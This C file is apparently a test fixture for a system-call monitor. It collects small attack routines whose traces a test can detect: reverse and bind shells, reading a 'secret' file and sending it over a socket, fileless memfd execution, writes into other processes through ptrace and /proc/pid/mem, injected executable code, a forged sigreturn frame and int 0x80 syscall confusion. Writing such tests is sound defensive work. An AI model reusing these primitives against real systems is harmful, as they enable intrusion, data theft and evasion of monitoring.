/* The attacks of watch_attacks.c. What they leave behind, a test can see: mostly a directory `mark`. */

/* What a machine of single steps does not tell from normal work. */

/* A call of the start-up, where start-up makes it: after a line of the log. */
static void late(void)
{
	say("late\n");
	mark();
	say("done\n");
}

/* After a line of the log, as in normal work; but that line comes later there. */
static void mimic(void)
{
	say("mimic\n");
	syscall(SYS_unlink, "target");
	say("done\n");
}

/* For writing, where normal work opens for reading. */
static void of_class(void)
{
	say("class\n");
	put("mark", O_WRONLY | O_CREAT);
	say("done\n");
}

/* Another file, where normal work opens one: an argument, not an order. */
static void argument(void)
{
	served = "secret";
	job();
}

/* Functions of ours that are not what they were. */

static void handler(void)
{
	in_handler = mark;
	job();
}

static void thread(void)
{
	in_thread = mark;
	job();
}

static void child(void)
{
	in_child = mark;
	job();
}

/* Programs. */

static void exec(void)
{
	execute("/bin/sh", touches);
}

static void exec_at(void)
{
	syscall(SYS_execveat, AT_FDCWD, "/bin/sh", touches, environ, 0);
}

static void exec_child(void)
{
	pid_t process = syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);

	if (!process)
		execute("/bin/sh", touches);
	wait_for(process);
}

static void memfd_exec(void)
{
	static char program[1 << 21];
	int file = syscall(SYS_memfd_create, "", MFD_CLOEXEC), from = put("/bin/mkdir", O_RDONLY);
	char *const words[] = { "mkdir", "mark", NULL };
	long got;

	while ((got = syscall(SYS_read, from, program, sizeof(program))) > 0)
		syscall(SYS_write, file, program, got);
	syscall(SYS_execveat, file, "", words, environ, AT_EMPTY_PATH);
}

static void shell_on(int file)
{
	for (int i = 0; i < 3; i++)
		syscall(SYS_dup2, file, i);
	execute("/bin/sh", (char *const[]){ "sh", "-c", "echo shell; mkdir mark", NULL });
}

/* Sockets. */

static void reverse_shell(void)
{
	int file = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);

	syscall(SYS_connect, file, &outside, sizeof(outside));
	shell_on(file);
}

static void client_shell(void)
{
	shell_on(client);
}

static void connect_out(void)
{
	syscall(SYS_connect, spare, &outside, sizeof(outside));
}

static void bind_shell(void)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = outside.sin_port };
	int file = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);

	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1); /* 127.0.0.2 */
	syscall(SYS_bind, file, &address, sizeof(address));
	syscall(SYS_listen, file, 1);
	mark();
}

static void send_out(void)
{
	syscall(SYS_sendto, client, "leak ", 5, MSG_NOSIGNAL, NULL, 0);
}

static void send_file(void)
{
	loff_t at = 0;

	syscall(SYS_sendfile, client, held, &at, 100);
}

static void send_message(void)
{
	struct iovec one = { "leak ", 5 };
	struct msghdr message = { .msg_iov = &one, .msg_iovlen = 1 };

	syscall(SYS_sendmsg, client, &message, MSG_NOSIGNAL);
}

static void exfiltrate(void)
{
	char text[64];
	int file = put("secret", O_RDONLY);
	long got = syscall(SYS_read, file, text, sizeof(text));

	syscall(SYS_sendto, client, text, got, MSG_NOSIGNAL, NULL, 0);
}

/* Files. */

static void create(void)
{
	put("mark", O_WRONLY | O_CREAT);
}

static void truncate_open(void)
{
	put("target", O_WRONLY | O_TRUNC);
}

static void overwrite(void)
{
	syscall(SYS_pwrite64, held, "ATTACK", 6, 0);
}

static void unlink_it(void)
{
	syscall(SYS_unlink, "target");
}

static void rename_it(void)
{
	syscall(SYS_rename, "target", "mark");
}

static void chmod_it(void)
{
	syscall(SYS_chmod, "target", 04755);
}

static void chown_it(void)
{
	syscall(SYS_lchown, "target", 65534, 65534);
}

static void symlink_it(void)
{
	syscall(SYS_symlink, "/etc/shadow", "mark");
}

static void mount_it(void)
{
	syscall(SYS_mount, "none", "run", "tmpfs", 0, NULL);
}

/* Identity and namespaces. */

static void unshare_it(void)
{
	syscall(SYS_unshare, CLONE_NEWNS);
	mark();
}

static void clone_namespace(void)
{
	pid_t process = syscall(SYS_clone, SIGCHLD | CLONE_NEWNS, 0, 0, 0, 0);

	if (!process) {
		mark();
		syscall(SYS_exit_group, 0);
	}
	wait_for(process);
}

static void set_uid(void)
{
	syscall(SYS_setresuid, 65534, 65534, 65534);
	mark();
}

/* Other processes. */

static void kill_it(void)
{
	syscall(SYS_kill, victim, SIGKILL);
}

static void ptrace_it(void)
{
	if (!syscall(SYS_ptrace, PTRACE_ATTACH, victim, 0, 0)) {
		wait_for(victim);
		syscall(SYS_ptrace, PTRACE_POKEDATA, victim, &canary, 2L);
		syscall(SYS_ptrace, PTRACE_DETACH, victim, 0, 0);
	}
}

static void vm_write(void)
{
	long value = 2;
	struct iovec ours = { &value, sizeof(value) }, theirs = { (void *)&canary, sizeof(canary) };

	syscall(SYS_process_vm_writev, victim, &ours, 1, &theirs, 1, 0);
}

static void mem_write(void)
{
	char name[40];
	long value = 2;

	snprintf(name, sizeof(name), "/proc/%d/mem", victim);
	syscall(SYS_pwrite64, put(name, O_RDWR), &value, sizeof(value), (long)&canary);
}

/* Code. */

static void run_code(void *at)
{
	((void (*)(const char *, int))at)("mark", 0755);
}

static void mprotect_it(void)
{
	static char page[PAGE] __attribute__((aligned(PAGE)));

	memcpy(page, code, sizeof(code));
	if (!syscall(SYS_mprotect, page, PAGE, PROT_READ | PROT_EXEC))
		run_code(page);
}

static void mmap_it(void)
{
	void *at = (void *)syscall(SYS_mmap, NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
				   -1, 0);

	run_code(memcpy(at, code, sizeof(code)));
}

static void memfd_mmap(void)
{
	int file = syscall(SYS_memfd_create, "", 0);

	syscall(SYS_write, file, code, sizeof(code));
	run_code((void *)syscall(SYS_mmap, NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0));
}

/* A frame of a signal that never came: sigreturn-oriented programming. */
__asm__(".text\n"
	"after_frame:\n\tsyscall\n\tmov $231, %eax\n\txor %edi, %edi\n\tsyscall\n"); /* the call; exit_group(0) */
extern const char after_frame[];

static void forged_frame(void)
{
	static char stack[4 * PAGE] __attribute__((aligned(16)));
	static ucontext_t frame;
	greg_t *registers = frame.uc_mcontext.gregs;

	frame.uc_flags = 6; /* UC_SIGCONTEXT_SS, UC_STRICT_RESTORE_SS: asm/ucontext.h */
	frame.uc_stack.ss_flags = SS_DISABLE;
	registers[REG_RAX] = SYS_mkdir;
	registers[REG_RDI] = (long)"mark";
	registers[REG_RSI] = 0755;
	registers[REG_RIP] = (long)after_frame;
	registers[REG_RSP] = (long)(stack + sizeof(stack));
	registers[REG_CSGSFS] = 0x2bL << 48 | 0x33; /* __USER_DS, __USER_CS: asm/segment.h */
	__asm__ volatile("mov %0, %%rsp\n\tmov %1, %%eax\n\tsyscall" : : "r"(&frame), "i"(SYS_rt_sigreturn) : "memory");
}

/* i386's mkdir, whose number is lchown's here. */
static void int80(void)
{
	long result = 39;

	__asm__ volatile("int $0x80" : "+a"(result) : "b"("mark"), "c"(0755) : "memory");
}
